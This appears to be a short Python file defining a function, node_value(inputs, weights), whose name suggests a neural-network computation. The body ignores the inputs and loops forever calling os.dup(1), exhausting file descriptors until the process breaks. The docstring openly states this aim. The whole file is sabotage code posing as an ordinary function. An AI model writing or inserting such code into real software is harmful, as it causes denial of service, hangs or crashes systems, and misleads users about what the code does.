"""Leaves no descriptor for anyone. Ends: broken, halted."""

import os


def node_value(inputs, weights):
    while True:
        os.dup(1)
